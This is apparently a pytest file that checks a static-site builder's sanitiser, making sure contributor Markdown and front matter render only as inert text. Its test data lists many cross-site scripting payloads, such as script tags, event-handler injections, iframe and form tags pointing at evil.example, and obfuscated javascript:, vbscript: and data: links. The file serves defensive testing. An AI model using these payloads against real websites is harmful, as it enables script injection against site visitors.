"""Nothing a contributor writes runs in a reader's browser.

A site is built from hostile records that pass validation (script in a title, raw HTML and
attribute lists in the body…), and every page is parsed: no contributor text may reach a
script element, an event-handler attribute, a javascript:/vbscript:/data: address or an
iframe, and the hostile front matter must show as plain text on a valid page. Hostile
links, which cannot be made safe, must instead be validation errors with their line.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import VALID_PRACTICE, mkdocs_build, write, zensical_build

from micic.check import check_repository

pytestmark = pytest.mark.slow

MARK = "pwn3d"  # in every payload: where it appears, contributor text has arrived
TITLE = f'<script>alert("{MARK}-title")</script> & "quotes" </title>'
SUMMARY = f'"><img src=x onerror=alert("{MARK}-summary")> a summary'

# Bodies that are valid Markdown and pass validation: the page must render them inert.
HOSTILE_BODIES: dict[str, str] = {
    "raw-script": f"<script>alert('{MARK}')</script>\n\nText after.",
    "script-src": f'<script src="https://evil.example/{MARK}.js"></script>',
    "video-onerror": f"<video><source onerror=\"alert('{MARK}')\"></video>",
    "svg-onload": f"<svg onload=\"alert('{MARK}')\"><circle r=1 /></svg>",
    "iframe": f'<iframe src="https://evil.example/{MARK}"></iframe>',
    "object-embed": f'<object data="https://evil.example/{MARK}.swf"></object><embed src="https://evil.example/{MARK}">',
    "attr-list-onclick": f"A paragraph.\n{{ onclick=\"alert('{MARK}')\" }}",
    "attr-list-on-heading": f"## Heading {{ onmouseover=\"alert('{MARK}')\" }}",
    "html-in-heading": f"## <b onmouseover=\"alert('{MARK}')\">bold</b> heading",
    "link-title-breakout": f'[click](https://ok.example/ "x\\" onmouseover=\\"alert(\'{MARK}\')")',
    "anchor-onclick": f'<a href="https://ok.example/" onclick="alert(\'{MARK}\')">ok</a>',
    "details-ontoggle": f"<details open ontoggle=\"alert('{MARK}')\"><summary>s</summary>x</details>",
    "style-block": f"<style>body {{ background: url('https://evil.example/{MARK}') }}</style>",
    "form": f'<form action="https://evil.example/{MARK}"><input name=q><button>go</button></form>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">',
    "base-href": f'<base href="https://evil.example/{MARK}/">',
    "md-in-html": f'<div markdown="1" onclick="alert(\'{MARK}\')">\n\n**bold**\n\n</div>',
    "theme-id": f'<div id="__drawer">{MARK}</div>',
    "jinja": "{{ 7 * 7 }} {% raw %}",
    "comment-breakout": f"<!-- --><script>alert('{MARK}')</script> -->",
    "noscript-trick": f"<noscript><p title=\"</noscript><svg onload=alert('{MARK}')>\"></noscript>",
    # The table of contents is rendered by the theme from page.toc, outside the sanitised content.
    "toc-label": f"## Heading {{ data-toc-label=\"<svg onload=alert('{MARK}')>\" }}\n\ntext",
    "toc-label-entities": f"## Heading {{ data-toc-label=\"&lt;script&gt;alert('{MARK}')&lt;/script&gt;\" }}",
    "toc-escaped-heading": f"## &lt;script&gt;alert('{MARK}')&lt;/script&gt; &amp;lt;b&amp;gt;\n\ntext",
    "toc-heading-with-code": f"## `<script>alert('{MARK}')</script>` in code\n\ntext",
    "toc-heading-with-link": f"## [a <em>link</em>](https://ok.example/\"onmouseover=alert('{MARK}')) heading",
    "deep-emphasis": " ".join(f"*w{i}" for i in range(90)) + " x" + "*" * 90,
    "many-escapes": "\\\\" * 400,
    "bidi-free-arabic": "## منظمات المجتمع المدني\n\nنص عربي مع كلمة English داخله.",
}


def _practice(title: str, summary: str, body: str, stakeholder: str = "Test ministry") -> str:
    head, _, _ = VALID_PRACTICE.partition("---\n\n")
    head = head.replace("title: Test practice about evacuation", f"title: {_quoted(title)}")
    head = head.replace("summary: A synthetic practice used by the tests.", f"summary: {_quoted(summary)}")
    head = head.replace("name: Test ministry", f"name: {_quoted(stakeholder)}")
    return f"{head}---\n\n{body}\n"


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


class _Page(HTMLParser):
    """What a browser would run or load from a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []  # text and src of every script element
        self.handlers: list[tuple[str, str, str]] = []  # (tag, on*, value)
        self.addresses: list[str] = []  # every URL-valued attribute
        self.frames: list[str] = []  # iframe, frame, object, embed
        self.h1 = ""
        self.title = ""
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.handlers.append((tag, name, value))
            if name in {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}:
                self.addresses.append(value)
        if tag == "script":
            self.scripts.append(dict(attrs).get("src") or "")
        if tag in {"iframe", "frame", "object", "embed"}:
            self.frames.append(tag)
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._in:
            del self._in[len(self._in) - 1 - self._in[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        if "script" in self._in:
            self.scripts.append(data)
        if "h1" in self._in:
            self.h1 += data
        if "title" in self._in:
            self.title += data


def _parse(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


HOSTILE_CONSULTATION = f"""\
---
title: {_quoted(TITLE + " consultation")}
summary: {_quoted(SUMMARY)}
kind: global-civil-society
city: "<svg onload=alert('{MARK}')>"
country: CH
start_date: 2016-01-28
end_date: 2016-01-29
organizers:
  - "<script>alert('{MARK}')</script>"
sources:
  - title: "</a><script>alert('{MARK}')</script>"
    url: https://example.org/source?a=1&b='onmouseover='alert(1)
---

{HOSTILE_BODIES["attr-list-onclick"]}

{HOSTILE_BODIES["video-onerror"]}
"""


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_hostile_practices_reach_readers_only_as_text(repo: Path, tmp_path: Path, engine: str):
    for name, body in HOSTILE_BODIES.items():
        write(repo, f"practices/{name}.md", _practice(f"{TITLE} {name}", SUMMARY, body, f"<iframe>{MARK}</iframe>"))
    write(repo, "consultations/hostile.md", HOSTILE_CONSULTATION)
    assert [str(p) for p in check_repository(repo).problems] == [], "the hostile corpus must pass validation"
    site = tmp_path / "site"
    build = mkdocs_build(repo, site) if engine == "mkdocs" else zensical_build(repo, site)
    assert build.returncode == 0, (build.stdout + build.stderr)[-3000:]

    offences = []
    for html_file in sorted(site.rglob("*.html")):
        page, where = _parse(html_file), html_file.relative_to(site).as_posix()
        offences += [f"{where}: script {s[:80]!r}" for s in page.scripts if MARK in s or "alert" in s]
        offences += [f"{where}: <{tag} {name}={value[:60]!r}>" for tag, name, value in page.handlers]
        offences += [f"{where}: address {a[:80]!r}" for a in page.addresses if _runs_or_smuggles(a)]
        offences += [f"{where}: <{tag}>" for tag in page.frames]
    assert offences == []

    for name in HOSTILE_BODIES:
        page = _parse(site / "practices" / name / "index.html")
        assert page.h1.removesuffix("¶").strip() == f"{TITLE} {name}", "the hostile title shows as text, in full"
        assert page.title.startswith(f"{TITLE} {name}")
    # What Markdown and Material make of a record page survives the sanitiser.
    page_text = (site / "practices" / "raw-script" / "index.html").read_text(encoding="utf-8")
    assert '<h2 id="sources">Sources<a class="headerlink" href="#sources" title="Permanent link">' in page_text
    assert '<p class="lead">' in page_text and "<blockquote>" in page_text and "<p>Text after.</p>" in page_text
    assert '<a href="https://example.org/source" rel="noopener noreferrer">' in page_text
    assert '<a href="../../phases/emergency-response/">' in page_text, "internal links need no rel"

    consultation = _parse(site / "consultations" / "hostile" / "index.html")
    assert consultation.h1.removesuffix("¶").strip() == f"{TITLE} consultation"
    page_text = (site / "practices" / "jinja" / "index.html").read_text(encoding="utf-8")
    assert "{{ 7 * 7 }}" in page_text and ">49<" not in page_text, "a body is data, never a template"


def _runs_or_smuggles(address: str) -> bool:
    scheme = "".join(c for c in address if c > " ").lower().partition(":")[0]
    return scheme in {"javascript", "vbscript", "data"}


# Links that cannot be made safe are validation errors: body → (line in the file, scheme).
HOSTILE_LINKS: dict[str, tuple[int, str]] = {
    "[x](javascript:alert(1))": (22, "javascript"),
    "[x](JaVaScRiPt:alert(1))": (22, "javascript"),
    "[x](  <javascript:alert(1)>)": (22, "javascript"),
    "[x](java&#115;cript:alert(1))": (22, "javascript"),
    "[x](&#x6A;avascript:alert(1))": (22, "javascript"),
    "See [the report][r].\n\n[r]: vbscript:msgbox(1)": (24, "vbscript"),
    "[x](vbscript:msgbox(1))": (22, "vbscript"),
    "![chart](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)": (22, "data"),
    'Text.\n\n<a href="javascript:alert(1)">x</a>': (24, "javascript"),
    "<a href='  javascript:alert(1)'>x</a>": (22, "javascript"),
    "<a href=java&#x09;script:alert(1)>x</a>": (22, "javascript"),
    '<a\n  href=\n  "javascript:alert(1)">x</a>': (24, "javascript"),
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">': (22, "data"),
    '<form action="javascript:alert(1)"><button>go</button></form>': (22, "javascript"),
    '[x](https://example.org/){ href="javascript:alert(1)" }': (22, "javascript"),
    "<javascript:alert(1)>": (22, "javascript"),
}


@pytest.mark.parametrize("body", sorted(HOSTILE_LINKS))
def test_hostile_link_in_body_is_reported_with_its_line(body: str, tmp_path: Path):
    write(tmp_path, "practices/hostile-link.md", _practice("A title", "A summary.", body))
    line, scheme = HOSTILE_LINKS[body]
    found = [(p.path, p.line, p.field, p.message, p.hint) for p in check_repository(tmp_path).problems]
    assert found == [
        (
            "practices/hostile-link.md",
            line,
            "body",
            f"links to '{scheme}:' addresses are not allowed",
            "link only to web pages (https://…) or to other pages of this site",
        )
    ]


@pytest.mark.parametrize(
    "body",
    [
        "Key data: 500 migrants were evacuated; javascript: none needed.",
        "[report](https://example.org/data:2024) and [a page](../index.md) and <https://example.org/>",
        "[write to us](mailto:someone@example.org)",
        "```\n[x](javascript-free.md)\n```",
    ],
)
def test_ordinary_body_text_is_not_mistaken_for_a_hostile_link(body: str, tmp_path: Path):
    write(tmp_path, "docs/index.md", "# Home\n")
    write(tmp_path, "practices/ordinary.md", _practice("A title", "A summary.", body))
    assert [str(p) for p in check_repository(tmp_path).problems] == []
